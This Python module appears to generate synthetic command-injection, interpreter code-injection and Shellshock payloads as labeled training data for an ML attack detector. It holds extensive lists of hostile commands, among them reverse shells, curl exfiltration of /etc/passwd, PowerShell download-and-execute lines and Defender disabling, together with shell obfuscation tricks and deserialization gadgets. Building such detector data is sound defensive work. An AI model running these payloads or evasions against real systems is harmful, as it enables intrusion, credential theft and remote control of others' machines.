"""Command injection (separators x substitutions x binaries x obfuscation), code injection into
interpreters (PHP, Node.js, Python, Ruby, Perl, Java reflection) reported as command execution,
and Shellshock function definitions."""

from __future__ import annotations

import random

from apiward.ml.generators.base import Family, Sample, chance, encode_layer, pick, rand_host, rand_ident, rand_ip, weighted

_BINARIES = ("id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "ls /", "pwd", "ifconfig", "ip a", "netstat -an", "ps aux", "env", "hostname", "cat /etc/shadow", "echo {tok}", "sleep {n}", "ping -c {n} {host}", "nslookup {host}", "dig {host}", "curl http://{host}/{word}", "curl -d @/etc/passwd {host}", "wget http://{host}/{word} -O /tmp/{word}", "nc {ip} {port} -e /bin/sh", "nc -lvp {port}", "bash -i >& /dev/tcp/{ip}/{port} 0>&1", "sh -c id", "/bin/sh", "/bin/bash -c 'id'", "python -c 'import os;os.system(\"id\")'", "perl -e 'exec \"/bin/sh\"'", "php -r 'system(\"id\");'", "rm -rf /tmp/{word}", "chmod +x /tmp/{word}", "touch /tmp/{word}", "cat /proc/version", "head /etc/hosts", "tail -n 5 /var/log/syslog", "find / -perm -4000", "crontab -l", "ruby -e 'system(\"id\")'", "base64 -d <<< {b64} | sh", "echo {b64}|base64 -d|bash", "telnet {ip} {port}", "xterm -display {ip}:1", "mkfifo /tmp/f", "powershell -enc {b64}", "cmd /c dir", "cmd.exe /c whoami", "net user", "type c:\\windows\\win.ini", "ipconfig /all", "systeminfo", "tasklist", "dir c:\\", "certutil -urlcache -f http://{host}/{word}.exe {word}.exe", "powershell IEX(New-Object Net.WebClient).DownloadString('http://{host}/{word}')", "which python", "uname", "cat$IFS/etc/passwd", "tftp -i {ip} GET {word}", "killall -9 {word}", "awk 'BEGIN {{system(\"id\")}}'", "openssl s_client -connect {ip}:{port}", "socat tcp:{ip}:{port} exec:sh", "getent passwd", "lsb_release -a", "useradd {word}", "echo vulnerable", "expr {n} + {n}", "/usr/bin/id", "/bin/cat /etc/passwd", "busybox nc {ip} {port}", "timeout {n} bash", "cut -d: -f1 /etc/passwd")
_SEPARATORS = (";", ";", "|", "||", "&", "&&", "\n", "%0a", "`", "$(", "\r\n", "; ", " | ", " && ", " || ", " ; ", "&;", "|&", "%0d%0a", "\x00")


def _fill(rng: random.Random, template: str) -> str:
    return template.format(
        host=rand_host(rng) if chance(rng, 0.7) else rand_ip(rng),
        ip=rand_ip(rng),
        port=pick(rng, (4444, 1337, 80, 443, 8080, 9001, rng.randint(1024, 65535))),
        word=rand_ident(rng),
        n=rng.randint(1, 30),
        tok=pick(rng, ("vulnerable", "pwned", rand_ident(rng), str(rng.randint(1000, 99999)))),
        b64="Y2F0IC9ldGMvcGFzc3dk" if chance(rng, 0.5) else "aWQ=",
    )


def _obfuscate(rng: random.Random, cmd: str) -> str:
    roll = rng.random()
    if roll < 0.1:
        return cmd.replace(" ", pick(rng, ("${IFS}", "$IFS", "$IFS$9", "${IFS%??}", "<", "\t", "%09", "{,}")))
    if roll < 0.18:
        # quote insertion inside words: w'h'o'am'i, c"a"t
        out = []
        for ch in cmd:
            out.append(ch)
            if ch.isalpha() and rng.random() < 0.3:
                out.append(pick(rng, ("''", '""', "\\", "'", '"')))
        text = "".join(out)
        return text if text.count("'") % 2 == 0 and text.count('"') % 2 == 0 else cmd
    if roll < 0.24:
        # glob / variable tricks for paths
        return cmd.replace("/etc/passwd", pick(rng, ("/e??/p?ss??", "/e*c/pa*wd", "/???/??ss??", "/etc/pa$@sswd", "/et$()c/pa$()sswd", "$HOME/../../etc/passwd", "/etc/pass{wd,}", "${PATH:0:1}etc${PATH:0:1}passwd"))).replace("/bin/", pick(rng, ("/b?n/", "/bi*/", "/usr/bin/", "/bin/")))
    if roll < 0.27:
        return _bracket_glob(rng, cmd)
    if roll < 0.28:
        return cmd.replace(" ", "${IFS}").replace("cat", "c${u}at")
    if roll < 0.31:
        escaped = "".join("\\x%02x" % ord(c) for c in cmd[:20])
        return f"$(printf '{escaped}')"
    if roll < 0.34:
        return f"{{{','.join(cmd.split(' ')[:4])}}}"
    return cmd


def _bracket_glob(rng: random.Random, cmd: str) -> str:
    """Path letters as bracket classes the shell expands back (``/[e]tc/[p]asswd``,
    ``/usr/[a-c]in/bash``, ``/[e//]tc``)."""
    out = []
    for part in cmd.split("/"):
        if part and part.isalpha() and rng.random() < 0.6:
            i = rng.randrange(len(part))
            cls = pick(rng, (part[i], f"{part[i]}//", f"{part[i]}{chr(ord(part[i]) + 1) if part[i] < 'z' else 'a'}",
                             f"{min(part[i], 'a')}-{max(part[i], 'z')}", f"!{chr(ord(part[i]) ^ 1)}"))
            part = f"{part[:i]}[{cls}]{part[i + 1:]}"
        out.append(part)
    return "/".join(out)


def _arithmetic(rng: random.Random) -> str:
    """Bash arithmetic and parameter expansion used as code, and fork bombs."""
    a, b = rng.randint(1, 99), rng.randint(1, 99)
    name = pick(rng, ("x", "PATH", "HOME", "IFS", rand_ident(rng)[:4]))
    return pick(rng, (f"$[{a}+{b}]", f"$(({a}*{b}))", f"$(($() {a}))", f"${{{name}#{{}}}}", f"${{{name}%%/*}}", f"${{{name}:0:1}}",
                      f"${{{name}//?/}}", ":(){ :|:& };:", ".(){ .|.& };.", f"{rand_ident(rng)[:1]}(){{ {rand_ident(rng)[:1]}|{rand_ident(rng)[:1]}& }};",
                      f"$[]", f"$(({name}={a}))"))


def _injection(rng: random.Random) -> str:
    cmd = _obfuscate(rng, _fill(rng, pick(rng, _BINARIES)))
    base = pick(rng, ("", "", "127.0.0.1", "8.8.8.8", "localhost", "1", "test", rand_ident(rng), "example.com", "foo.txt", str(rng.randint(1, 9999)), "x"))
    sep = pick(rng, _SEPARATORS)
    roll = rng.random()
    if sep == "$(":
        return f"{base}$({cmd})"
    if sep == "`":
        return f"{base}`{cmd}`"
    if roll < 0.15:
        # inside a quoted argument
        q = pick(rng, ("'", '"'))
        return f"{base}{q}{sep}{cmd}{sep if rng.random() < 0.3 else ''}{q}" if rng.random() < 0.5 else f"{base}{q}{sep}{cmd} #"
    tail = pick(rng, ("", "", "", ";", " #", "&", "|", " ;", "%00", f"{sep}{base}"))
    return f"{base}{sep}{cmd}{tail}"


def _substitution(rng: random.Random) -> str:
    cmd = _obfuscate(rng, _fill(rng, pick(rng, _BINARIES)))
    forms = (f"$({cmd})", f"`{cmd}`", f"${{{rand_ident(rng)}:-$({cmd})}}", f"$(echo {cmd.split(' ')[0]})", f"<({cmd})", f">({cmd})", f"a$({cmd})b", f"{rand_ident(rng)}`{cmd}`", f"\"$({cmd})\"")
    return pick(rng, forms)


def _windows(rng: random.Random) -> str:
    cmd = _fill(rng, pick(rng, ("dir", "whoami", "type c:\\windows\\win.ini", "net user {word} /add", "ipconfig", "ping -n {n} {host}", "powershell -c \"iwr http://{host}/{word}\"", "cmd /c set", "certutil -decode {word}.b64 {word}.exe", "wmic process list", "reg query HKLM\\Software", "start calc.exe", "del /q c:\\{word}", "net localgroup administrators")))
    if chance(rng, 0.2):
        cmd = cmd.replace("w", "w^").replace("i", "i^", 1)
    sep = pick(rng, ("&", "&&", "|", "||", "\r\n", "%0d%0a", ";"))
    return f"{pick(rng, ('', '127.0.0.1', 'x', rand_ident(rng)))}{sep}{cmd}"


_PHP_BARE = ("system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "assert", "eval", "create_function", "call_user_func", "call_user_func_array", "preg_replace", "file_get_contents", "file_put_contents", "fopen", "fwrite", "base64_decode", "gzinflate", "gzuncompress", "gzdecode", "str_rot13", "phpinfo", "highlight_file", "show_source", "unserialize", "array_map", "ini_set", "ini_get_all", "putenv", "getenv", "move_uploaded_file", "chmod", "unlink", "posix_getpwuid", "get_defined_vars", "var_dump", "print_r", "extract", "parse_str", "include", "require", "mail", "curl_exec", "fsockopen", "dl", "symlink", "readfile")


def _code_php(rng: random.Random) -> str:
    if chance(rng, 0.35):
        fn = pick(rng, _PHP_BARE)
        gap = pick(rng, ("", "", " ", "/*x*/", "/**/", "\t", "  "))
        arg = pick(rng, ("", "", "$_GET['x']", "'id'", "$_POST[0]", "1", "'/etc/passwd'", "$x", "base64_decode($_REQUEST['c'])"))
        return f"{fn}{gap}({arg}){pick(rng, ('', ';', ';?>', ' ?>'))}"
    cmd = _fill(rng, pick(rng, ("id", "whoami", "ls -la", "cat /etc/passwd", "uname -a", "curl {host}")))
    fn = pick(rng, ("system", "exec", "shell_exec", "passthru", "popen", "proc_open", "pcntl_exec", "assert", "eval", "create_function", "call_user_func", "preg_replace", "include", "require_once", "file_get_contents", "fopen", "base64_decode", "str_rot13", "phpinfo", "highlight_file", "show_source", "file_put_contents", "unserialize", "array_map", "usort"))
    forms = (
        f"<?php {fn}('{cmd}'); ?>",
        f"<?php {fn}($_GET['{rand_ident(rng)}']);?>",
        f"<?= `{cmd}` ?>",
        f"{fn}('{cmd}')",
        f"{fn}(\"{cmd}\");",
        f"';{fn}('{cmd}');//",
        f"${{@{fn}($_REQUEST[{rand_ident(rng)}])}}",
        f"phpinfo();",
        f"eval(base64_decode('{pick(rng, ('c3lzdGVtKCdpZCcpOw==', 'cGhwaW5mbygpOw=='))}'));",
        f"assert(\"{fn}('{cmd}')\")",
        f"preg_replace('/.*/e','{fn}(\"{cmd}\")','')",
        f"O:{rng.randint(4, 20)}:\"{rand_ident(rng).title()}\":{rng.randint(1, 4)}:{{s:{rng.randint(1, 9)}:\"{rand_ident(rng)}\";s:{rng.randint(1, 30)}:\"{cmd}\";}}",
        f"a:{rng.randint(1, 3)}:{{i:0;O:8:\"stdClass\":1:{{s:4:\"file\";s:11:\"/etc/passwd\";}}}}",
        f"$_GET[{rand_ident(rng)}]($_GET[{rand_ident(rng)}])",
        f"$_=\"{rand_ident(rng)}\";$__=$_[{rng.randint(0, 5)}];$__($_POST[_]);",
        f"{fn}(chr({rng.randint(97, 122)}).chr({rng.randint(97, 122)}))",
        f"${{{fn}('{cmd}')}}",
        f"{{${fn}('{cmd}')}}",
        f"file_put_contents('{rand_ident(rng)}.php','<?php {fn}($_GET[c]);')",
    )
    return pick(rng, forms)


def _code_other(rng: random.Random) -> str:
    cmd = _fill(rng, pick(rng, ("id", "whoami", "ls", "cat /etc/passwd", "curl {host}", "nc {ip} {port}")))
    forms = (
        f"require('child_process').exec('{cmd}')",
        f"require(\"child_process\").execSync(\"{cmd}\").toString()",
        f"process.mainModule.require('child_process').exec('{cmd}')",
        f"global.process.mainModule.constructor._load('child_process').exec('{cmd}')",
        f"_$$ND_FUNC$$_function(){{require('child_process').exec('{cmd}')}}()",
        f"this.constructor.constructor('return process')().mainModule.require('child_process').execSync('{cmd}')",
        f"__import__('os').system('{cmd}')",
        f"__import__('subprocess').check_output('{cmd}',shell=True)",
        f"eval(compile('import os;os.system(\"{cmd}\")','x','exec'))",
        f"os.popen('{cmd}').read()",
        f"exec('import os; os.system(\"{cmd}\")')",
        f"`{cmd}`.to_s",
        f"Kernel.exec('{cmd}')",
        f"IO.popen('{cmd}').read",
        f"%x({cmd})",
        f"system('{cmd}')",
        f"open(F, '{cmd}|'); print <F>;",
        f"@{{[ system '{cmd}' ]}}",
        f"java.lang.Runtime.getRuntime().exec(\"{cmd}\")",
        f"Runtime.getRuntime().exec(new String[]{{\"/bin/sh\",\"-c\",\"{cmd}\"}})",
        f"new java.lang.ProcessBuilder(\"{cmd.split(' ')[0]}\").start()",
        f"Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",String.class)",
        f"java.lang.System.exit(1)",
        f"javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"{cmd}\")",
        f"java.io.FileInputStream(\"/etc/passwd\")",
        f"org.apache.commons.collections.functors.InvokerTransformer",
        f"rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAAC{rand_ident(rng)}",
        f"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{{{rand_ident(rng)}}}i",
        f"{{\"__proto__\":{{\"{pick(rng, ('isAdmin', 'polluted', 'shell', 'execArgv'))}\":{pick(rng, ('true', '1', chr(34) + cmd + chr(34)))}}}}}",
        f"constructor[prototype][{rand_ident(rng)}]=1",
        f"__proto__[{pick(rng, ('isAdmin', 'outputFunctionName', 'shell'))}]={pick(rng, ('1', 'x;process.mainModule.require(`child_process`).execSync(`' + cmd + '`)'))}",
        f"$where: this.constructor.constructor('return process')()",
    )
    return pick(rng, forms)


def _shellshock(rng: random.Random) -> str:
    cmd = _fill(rng, pick(rng, ("/bin/cat /etc/passwd", "/bin/bash -c 'id'", "echo; /usr/bin/id", "/usr/bin/wget http://{host}/{word}", "/bin/sleep {n}", "echo vulnerable", "/bin/nc {ip} {port} -e /bin/bash", "ping -c 1 {host}", "/bin/bash -i >& /dev/tcp/{ip}/{port} 0>&1", "echo Content-Type: text/plain; echo; id")))
    body = pick(rng, (":;", " :;", ":; ", " :; ", "_;", " echo;", ":", " x; ", ";"))
    head = pick(rng, ("() {", "() {", "(){", "() { ", "()  {"))
    tail = pick(rng, ("};", "}; ", " };", "};  ", "} ;"))
    prefix = pick(rng, ("", "", "", "x=", f"{rand_ident(rng)}="))
    return f"{prefix}{head}{body}{tail} {cmd}"


_WIN_DIRS = ("c:\\windows", "%temp%", "%userprofile%")
_WIN_FILES = ("c:\\boot.ini", "%temp%\\x.txt", "C:\\Windows\\win.ini", "$env:USERPROFILE\\.ssh\\id_rsa")


def _bare(rng: random.Random) -> str:
    """A command line on its own: parameters handed whole to a shell or interpreter."""
    roll = rng.random()
    if roll < 0.55:
        cmd = _fill(rng, pick(rng, _BINARIES))
        return _obfuscate(rng, cmd) if chance(rng, 0.3) else cmd
    if roll < 0.8:
        var = pick(rng, ("%a", "%%a", "%i", "%%G", "%v", "%%A"))
        body = _fill(rng, pick(rng, ("echo {tok}", "type {word}.txt", "del {word}", "ping {host}", "cmd /c {word}", "call {word}.bat", "@echo {tok}")))
        return pick(rng, (
            f"for /f \"tokens={rng.randint(1, 3)}-{rng.randint(3, 5)}\" {var} in ('{_fill(rng, pick(rng, ('dir /b', 'whoami', 'type {word}.txt', 'net user')))}') do {body}",
            f"for /l {var} in ({rng.randint(0, 3)},1,{rng.randint(4, 99)}) do {body}",
            f"for {var} in (*.{pick(rng, ('txt', 'exe', 'bat', 'log'))}) do {body}",
            f"if exist {pick(rng, _WIN_DIRS)} {body}",
            f"if \"%{rand_ident(rng)}%\" {pick(rng, ('gtr', 'equ', 'neq', 'lss'))} \"%{rand_ident(rng)}%\" {body}",
            f"set /p {rand_ident(rng)}=<{pick(rng, _WIN_FILES)} & {body}",
        ))
    return pick(rng, (
        f"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{rand_host(rng)}/{rand_ident(rng)}.ps1')\"",
        f"Invoke-Expression (iwr http://{rand_host(rng)}/{rand_ident(rng)}).Content",
        f"Start-Process {pick(rng, ('calc.exe', 'cmd.exe', 'powershell.exe'))} {pick(rng, ('', '-ArgumentList /c whoami'))}",
        f"Get-Content {pick(rng, _WIN_FILES)}",
        f"[System.Diagnostics.Process]::Start('{pick(rng, ('cmd', 'calc'))}')",
        f"Set-MpPreference -DisableRealtimeMonitoring $true",
    ))


_JAVA_PACKAGES = ("java.lang", "java.io", "java.net", "java.nio.file", "java.util", "javax.script", "javax.naming", "javax.management", "java.lang.reflect", "org.apache.commons.collections.functors", "org.apache.commons.collections4.functors", "com.sun.rowset", "com.sun.org.apache.xalan.internal.xsltc.trax", "org.springframework.beans.factory.config", "org.codehaus.groovy.runtime", "bsh", "ognl", "sun.misc", "java.beans", "org.mozilla.javascript")
_JAVA_CLASSES = ("Runtime", "ProcessBuilder", "System", "Class", "ClassLoader", "Thread", "Method", "Constructor", "FileOutputStream", "FileInputStream", "ObjectInputStream", "ObjectOutputStream", "ByteArrayOutputStream", "ByteArrayInputStream", "FilterOutputStream", "BufferedReader", "InputStreamReader", "PrintWriter", "URLClassLoader", "Socket", "URL", "InitialContext", "ScriptEngineManager", "InvokerTransformer", "ChainedTransformer", "ConstantTransformer", "InstantiateTransformer", "JdbcRowSetImpl", "TemplatesImpl", "MethodInvoker", "ConvertedClosure", "Interpreter", "OgnlContext", "Unsafe", "XMLDecoder", "Files", "Paths", "Base64", "Field", "Proxy")
_JAVA_METHODS = ("getRuntime().exec", "exec", "start", "forName", "getMethod", "invoke", "newInstance", "getDeclaredConstructor", "loadClass", "defineClass", "lookup", "readObject", "eval", "readAllBytes", "getProperty", "setAccessible", "getEngineByName", "exit", "load", "write")


def _java(rng: random.Random) -> str:
    pkg = pick(rng, _JAVA_PACKAGES)
    cls = pick(rng, _JAVA_CLASSES)
    roll = rng.random()
    if roll < 0.35:
        return f"{pkg}.{cls}" if chance(rng, 0.7) else f"{cls}.class"
    if roll < 0.6:
        arg = pick(rng, ("", '"id"', "'whoami'", '"/bin/sh"', "null", '"ldap://' + rand_host(rng) + '/a"', "new String[]{\"sh\",\"-c\",\"id\"}", '"' + pkg + "." + pick(rng, _JAVA_CLASSES) + '"'))
        return f"{pkg}.{cls}.{pick(rng, _JAVA_METHODS)}({arg})"
    if roll < 0.75:
        return f"new {pkg}.{cls}({pick(rng, ('', chr(34) + '/tmp/' + rand_ident(rng) + chr(34), chr(34) + 'id' + chr(34)))})"
    if roll < 0.9:
        # a Java serialization stream: magic bytes, then a class descriptor
        import base64

        blob = b"\xac\xed\x00\x05sr" + bytes([0, len(pkg) + len(cls) + 1]) + f"{pkg}.{cls}".encode() + bytes(rng.getrandbits(8) for _ in range(rng.randint(8, 40)))
        return base64.b64encode(blob).decode() if chance(rng, 0.7) else blob.hex()
    return f"{{\"@type\":\"{pkg}.{cls}\",\"{pick(rng, ('dataSourceName', 'autoCommit', 'outputProperties', 'command'))}\":\"{pick(rng, ('ldap://' + rand_host(rng) + '/a', 'true', 'id'))}\"}}"


_FAMILIES: tuple[tuple[str, Family, float], ...] = (
    ("separator", _injection, 5.0),
    ("bare", _bare, 2.0),
    ("java", _java, 2.0),
    ("substitution", _substitution, 1.5),
    ("windows", _windows, 1.0),
    ("arithmetic", _arithmetic, 0.5),
    ("php_code", _code_php, 2.0),
    ("other_code", _code_other, 2.0),
)


def generate(rng: random.Random, n: int) -> list[Sample]:
    out: list[Sample] = []
    for _ in range(n):
        name, fn = weighted(rng, _FAMILIES)
        out.append(Sample(encode_layer(rng, fn(rng)), "cmdi", name))
    return out


def generate_shellshock(rng: random.Random, n: int) -> list[Sample]:
    return [Sample(encode_layer(rng, _shellshock(rng), (0.9, 0.05, 0.05, 0.0)), "shellshock", "function_def") for _ in range(n)]
